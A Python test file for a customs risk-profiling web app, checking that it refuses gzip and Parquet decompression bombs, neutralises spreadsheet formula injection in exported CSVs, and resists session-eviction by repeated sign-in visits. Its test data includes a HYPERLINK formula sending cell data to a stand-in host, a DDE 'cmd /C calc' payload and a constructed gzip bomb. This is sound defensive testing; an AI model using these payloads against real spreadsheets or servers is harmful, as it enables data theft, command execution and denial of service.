"""The workbench against hostile input: uploads that unpack to far more than they weigh, cells a
spreadsheet would run as formulas, and requests that would push signed-in sessions out."""

from __future__ import annotations

import gzip
import io
from collections.abc import Callable

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from tests.conftest import API_MAX_BODY, Api
from tests.factories import make_declarations
from tests.test_workbench import signed_in


@pytest.fixture
def api(make_api: Callable[..., Api], monkeypatch: pytest.MonkeyPatch) -> Api:
    monkeypatch.delenv("RISKPROF_SESSION_SECRET", raising=False)
    return make_api()


def _upload(api: Api, token: str, name: str, body: bytes) -> object:
    return api.client.post("/app/manifests", data={"csrf_token": token, "capacity": "5%", "random_share": "0.1"},
                           files={"manifest": (name, body, "application/octet-stream")}, follow_redirects=False)


def test_a_gzip_upload_that_unpacks_past_the_body_limit_is_refused_before_it_is_read(api: Api) -> None:
    """A .csv.gz of under 1 MB unpacked to 200 MB and was read whole (1,000,000 rows, 665 MB of memory)
    before its rows were counted: a 32 MB upload could take the server's memory. The upload is now
    unpacked only up to the body limit the API applies to any request."""
    token = signed_in(api)
    csv = make_declarations(np.random.default_rng(1), 3, start="2023-06-01", days=5).to_csv(index=False).encode()
    header, first = csv.splitlines(keepends=True)[:2]
    bomb = gzip.compress(header + first * (4 * API_MAX_BODY // len(first)), 9)
    assert len(bomb) < API_MAX_BODY // 4
    r = _upload(api, token, "bomb.csv.gz", bomb)
    assert r.status_code == 413, r.text[:2000]
    assert "unpacks to more than" in r.text and "rows;" not in r.text
    ok = gzip.compress(csv)  # a small one still ranks
    assert _upload(api, token, "ok.csv.gz", ok).status_code == 303


def test_a_parquet_upload_of_too_many_rows_or_bytes_is_refused_from_its_footer(api: Api,
                                                                             monkeypatch: pytest.MonkeyPatch) -> None:
    """A Parquet file's rows were decoded (pandas) before they were counted; one that compresses a few
    repeated values could hold millions of rows in a few KB. Its footer now says how many rows and
    bytes it holds, and a file over the limits is refused without decoding a row."""
    token = signed_in(api)
    many = pa.table({"declaration_id": ["D1"] * 200_000, "goods_description": ["x"] * 200_000})
    buf = io.BytesIO()
    pq.write_table(many, buf, compression="zstd")
    assert len(buf.getvalue()) < API_MAX_BODY

    import pandas as pd

    def not_decoded(*a: object, **k: object) -> None:
        raise AssertionError("the rows were decoded")

    monkeypatch.setattr(pd, "read_parquet", not_decoded)
    r = _upload(api, token, "many.parquet", buf.getvalue())
    assert r.status_code == 422 and "200,000 rows" in r.text, r.text[:2000]
    wide = pa.table({"declaration_id": ["D1"], "goods_description": ["x" * (2 * API_MAX_BODY)]})
    buf = io.BytesIO()
    pq.write_table(wide, buf, compression="zstd")
    r = _upload(api, token, "wide.parquet", buf.getvalue())
    assert r.status_code == 413 and "unpacks to more than" in r.text, r.text[:2000]


FORMULAS = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-1+1")


def test_every_text_cell_of_the_selection_csv_is_kept_from_running_as_a_formula(api: Api) -> None:
    """Only the goods description and the reasons were guarded: a declaration id or office id of
    ``=HYPERLINK(…)`` (any text, as the contract allows) reached the CSV as a live formula."""
    import csv

    token = signed_in(api)
    frame = make_declarations(np.random.default_rng(2), 4, start="2023-06-01", days=5)
    frame["declaration_id"] = list(FORMULAS)
    frame["office_id"] = list(reversed(FORMULAS))
    r = _upload(api, token, "formulas.csv", frame.to_csv(index=False).encode())
    assert r.status_code == 303, r.text[:2000]
    body = api.client.get(r.headers["location"] + "/selection.csv").text
    rows = list(csv.DictReader(io.StringIO(body)))
    assert len(rows) == 4
    for row in rows:
        for column, value in row.items():
            assert value[:1] not in ("=", "+", "-", "@"), (column, value)
    assert sorted(row["declaration_id"] for row in rows) == sorted("'" + f for f in FORMULAS)


def test_visits_to_the_sign_in_page_do_not_push_signed_in_sessions_out(make_api: Callable[..., Api],
                                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    """Every visit to /app/sign-in without a cookie kept a new session, and the oldest were dropped past
    ``RISKPROF_MAX_SESSIONS``: anyone, without a key, could sign every officer out by loading the sign-in
    page that many times. Sessions nobody signed in to no longer push out those of signed-in officers."""
    monkeypatch.delenv("RISKPROF_SESSION_SECRET", raising=False)
    monkeypatch.setenv("RISKPROF_MAX_SESSIONS", "5")
    api = make_api()
    signed_in(api)
    assert api.client.get("/app/manifests", follow_redirects=False).status_code == 200
    cookie = api.client.cookies.get("riskprof_session")
    for _ in range(20):  # an attacker's client: no cookie each time
        api.client.cookies.clear()
        assert api.client.get("/app/sign-in").status_code == 200
    api.client.cookies.clear()
    api.client.cookies.set("riskprof_session", cookie, path="/app")
    assert api.client.get("/app/manifests", follow_redirects=False).status_code == 200
